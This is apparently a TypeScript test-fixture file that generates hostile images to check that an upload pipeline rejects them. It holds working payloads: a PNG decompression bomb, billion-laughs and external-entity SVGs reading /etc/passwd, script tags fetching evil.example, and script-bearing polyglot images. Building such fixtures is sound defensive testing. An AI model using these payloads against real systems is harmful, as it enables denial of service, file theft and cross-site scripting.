import { constants, crc32, deflateRawSync, deflateSync } from "node:zlib";

/*
 * Hostile pictures for tests: decompression bombs, wrong headers and payloads.
 */

export const canary = "canary-7f3a";
const script = `<script>fetch("https://evil.example/${canary}")</script>`;

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

function pngOf({ width, height, data }: { width: number; height: number; data: Uint8Array }): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  // Eight bits, red, green and blue.
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", header),
    chunk("IDAT", data),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Decompresses to 768 MB. */
export function pixelBomb(): Buffer {
  const million = deflateRawSync(Buffer.alloc(1_000_000), { finishFlush: constants.Z_FULL_FLUSH, level: 9 });
  const data = Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: 768 }, () => million), Buffer.from([3, 0, 0, 0, 0, 1])]);
  return pngOf({ width: 16_000, height: 16_000, data });
}

function bmpOf({
  width,
  height,
  bits = 24,
  pixels = Buffer.alloc(0),
}: {
  width: number;
  height: number;
  bits?: number;
  pixels?: Buffer;
}): Buffer {
  const header = Buffer.alloc(54 + 12);
  header.write("BM", "latin1");
  header.writeUInt32LE(66, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(bits, 28);
  return Buffer.concat([header, pixels]);
}

function gifOf({ width, height, rest = "" }: { width: number; height: number; rest?: string }): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(width, 0);
  size.writeUInt16LE(height, 2);
  return Buffer.concat([Buffer.from("GIF89a"), size, Buffer.from(rest, "latin1")]);
}

const hugeJpeg = Buffer.from("ffd8ffe000104a46494600010100000100010000ffc0001108ffdcffdc03012200021101031101", "hex");
const hugeWebp = Buffer.concat([
  Buffer.from("RIFF\x20\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff", "latin1"),
  Buffer.alloc(20),
]);
const svg = (inner: string, root = 'width="100" height="100"', before = "") =>
  Buffer.from(`${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${root}>${inner}</svg>`);
const laughs = Array.from({ length: 10 }, (_, level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`).join("");
const echoes = Array.from({ length: 12 }, (_, level) => `<g id="g${level + 1}">${`<use xlink:href="#g${level}"/>`.repeat(10)}</g>`).join(
  "",
);

/** Each must be rejected before it is decoded. */
export const refused: Record<string, () => Buffer> = {
  "a PNG of 776 KB that unpacks to 256 megapixels": pixelBomb,
  "a PNG header of 65,535 squared": () => pngOf({ width: 65_535, height: 65_535, data: deflateSync(Buffer.alloc(10)) }),
  "a JPEG header of 65,500 squared": () => hugeJpeg,
  "a GIF header of 65,535 squared": () => gifOf({ width: 65_535, height: 65_535 }),
  "a WebP header of 16 megapixels squared": () => hugeWebp,
  "a BMP header of a billion squared": () => bmpOf({ width: 1_000_000_000, height: 1_000_000_000 }),
  "a BMP that ends with its header": () => bmpOf({ width: 5_000, height: 5_000 }),
  "a BMP of negative width": () => bmpOf({ width: -5, height: 5 }),
  "a drawing of a million squared": () => svg("<rect/>", 'width="1000000" height="1000000"'),
  "a drawing with entities that multiply": () => svg("<text>&a10;</text>", undefined, `<!DOCTYPE svg [<!ENTITY a0 "ha">${laughs}]>`),
  "a drawing with an external entity": () => svg("<text>&x;</text>", undefined, '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  "a drawing that repeats itself by reference": () => svg(`<rect id="g0" width="1" height="1"/>${echoes}`),
  "a drawing that refers to itself": () => svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  "a drawing with a picture from elsewhere": () => svg('<image href="https://evil.example/a.png" width="9" height="9"/>'),
  "a drawing with a file of ours": () => svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
  "a drawing with a picture inside": () => svg(`<image href="data:image/png;base64,${pixelBomb().toString("base64")}"/>`),
  "a drawing that hides a reference": () => svg('<use href="&#104;ttps://evil.example/a.svg#a"/>'),
  "a drawing with another's style sheet": () => svg('<style>@import "https://evil.example/a.css";</style>'),
  "a drawing with a processing instruction": () => svg("<rect/>", undefined, '<?xml-stylesheet href="#a"?>'),
  "a drawing of two million bytes": () => svg("<rect/>".repeat(300_000)),
  "a drawing nested without end": () => svg("<g>".repeat(100_000)),
  "a drawing of opened tags": () => svg("<a ".repeat(300_000)),
  "a drawing in another encoding": () => svg("<rect/>", undefined, '<?xml version="1.0" encoding="UTF-7"?>'),
  "a page": () => Buffer.from(`<!doctype html><html>${script}</html>`),
  "a script": () => Buffer.from(`alert("${canary}")`),
  "a PDF": () => Buffer.from("%PDF-1.7 ..."),
  "a zip": () => Buffer.from("PK\x03\x04", "latin1"),
  nothing: () => Buffer.from(" "),
};

/** Real pictures with a payload that must not survive re-encoding. */
export function polyglotsOf(real: { jpeg: Buffer; png: Buffer; gif: Buffer }): Buffer[] {
  const { jpeg, png, gif } = real;
  const comment = Buffer.from(script, "latin1");
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment]);
  return [
    // A JPEG with a page behind it.
    Buffer.concat([jpeg, Buffer.from(`<html>${script}</html>`)]),
    // A JPEG with a zip behind it.
    Buffer.concat([jpeg, Buffer.from(`PK\x03\x04${canary}`, "latin1")]),
    // A JPEG with a script in its comment.
    Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]),
    // A PNG with a payload in a chunk.
    Buffer.concat([png.subarray(0, 33), chunk("tEXt", Buffer.from(`Comment\0${script}`)), png.subarray(33)]),
    // A PNG with a script behind it.
    Buffer.concat([png, Buffer.from(script)]),
    // A GIF that is a script.
    Buffer.concat([gif, Buffer.from(`=1;/*${canary}*/alert("${canary}")`)]),
  ];
}

export const inertSvg = svg(
  `<script>alert("${canary}")</script><rect width="50" height="50" fill="#c00" onclick="alert('${canary}')"/><text>${canary}</text>`,
  'width="100" height="50" onload="alert(1)"',
);

export function plainBmp(): Buffer {
  // Two by two, from below: blue and green, then red and white; each row is filled up to eight bytes.
  const pixels = Buffer.from([255, 0, 0, 0, 255, 0, 0, 0, 0, 0, 255, 255, 255, 255, 0, 0]);
  return bmpOf({ width: 2, height: 2, pixels });
}
